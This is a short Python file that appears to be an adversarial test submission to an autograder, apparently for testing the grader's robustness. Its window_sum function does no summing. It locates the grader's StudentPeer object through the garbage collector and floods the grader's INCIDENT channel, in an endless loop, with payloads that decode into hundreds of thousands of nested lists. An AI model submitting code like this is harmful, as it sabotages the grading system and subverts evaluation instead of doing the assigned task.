"""Нападение: поток заметок для журнала, каждая — миллионы пустых списков."""

# %% base ../honest

# %% window
import gc
import sys


def window_sum(x, size):
    peer = next(item for item in gc.get_objects() if type(item).__name__ == "StudentPeer")
    kind = sys.modules["autograder.wire.channel"].Frame.INCIDENT
    count = 400_000
    note = b"[" + count.to_bytes(4, "big") + b"*" + (b"[" + bytes(4) + b"*") * count
    while True:
        peer.channel.send(kind, note)
